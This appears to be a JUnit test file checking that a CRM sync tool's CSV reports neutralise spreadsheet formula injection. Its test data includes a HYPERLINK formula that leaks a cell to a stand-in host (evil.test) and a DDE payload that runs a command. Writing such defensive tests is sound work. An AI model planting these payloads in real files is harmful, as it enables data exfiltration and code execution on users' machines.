/*
 * Copyright 2026 the crm-salesforce-sync authors.
 */
package com.crmsync.report;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;

import com.crmsync.crm.FieldConflictRecord;
import com.crmsync.crm.ObjectType;
import com.crmsync.crm.PlannedChange;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The CSV files are safe to open in a spreadsheet: a value that would start a formula is
 * neutralised as OWASP's "CSV Injection" page describes (a single quote in front, the
 * cell quoted), while bare negative numbers stay numbers.
 */
class ReportCsvTests {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")";

	@Test
	void formulaFromTheCrmIsWrittenAsQuotedTextWithALeadingQuote() throws IOException {
		StringWriter csv = new StringWriter();

		ReportCsv.conflicts(List.of(new FieldConflictRecord("mergeLeads", ObjectType.of("LEAD"), 7,
				"00Q000000000007AAA", "Title", HYPERLINK, "Buyer", "CRM")), csv);

		assertThat(csv.toString())
			.isEqualTo("step,object_type,crm_id,salesforce_id,field,crm_value,salesforce_value,winner\r\n"
					+ "mergeLeads,LEAD,7,00Q000000000007AAA,Title,"
					+ "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",Buyer,CRM\r\n");
		// and: a CSV reader (as a spreadsheet's import) gets the text, quote first
		CSVRecord row = parse(csv.toString()).get(1);
		assertThat(row.get(5)).isEqualTo("'" + HYPERLINK);
		assertThat(row.get(6)).isEqualTo("Buyer");
	}

	@Test
	void everyCharacterThatStartsAFormulaIsNeutralised() throws IOException {
		List<String> hostile = List.of("=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
				"-2+3+cmd|' /C calc'!A0", "-", "=");
		StringWriter csv = new StringWriter();

		ReportCsv.changes(hostile.stream()
			.map((value) -> new PlannedChange("mergeLeads", ObjectType.of("LEAD"), 1L, null, "SALESFORCE", "UPDATE",
					"Title", "old", value))
			.toList(), csv);

		List<CSVRecord> rows = parse(csv.toString());
		assertThat(rows).hasSize(1 + hostile.size());
		for (int i = 0; i < hostile.size(); i++) {
			assertThat(rows.get(i + 1).get(8)).isEqualTo("'" + hostile.get(i));
		}
		// each neutralised cell is quoted in the file
		assertThat(csv.toString()).contains(",\"'=1+1\"\r\n", ",\"'@SUM(A1:A9)\"\r\n", ",\"'\t=1+1\"\r\n");
	}

	@Test
	void bareNumbersAndInnerSignsAreLeftAsTheyAre() throws IOException {
		List<String> harmless = List.of("-42", "-1500.25", "0", "12.5", "a-b", "Smith-Jones", "x=1", "mail@x.test", "");
		StringWriter csv = new StringWriter();

		ReportCsv.changes(harmless.stream()
			.map((value) -> new PlannedChange("pushLeadScores", ObjectType.of("LEAD"), 3L, "00Q3", "SALESFORCE",
					"UPDATE", "Score__c", null, value))
			.toList(), csv);

		assertThat(csv.toString()).contains(",-42\r\n", ",-1500.25\r\n", ",Smith-Jones\r\n", ",x=1\r\n")
			.doesNotContain("'");
		List<CSVRecord> rows = parse(csv.toString());
		for (int i = 0; i < harmless.size(); i++) {
			assertThat(rows.get(i + 1).get(8)).isEqualTo(harmless.get(i));
		}
	}

	private static List<CSVRecord> parse(String csv) throws IOException {
		return CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
	}

}
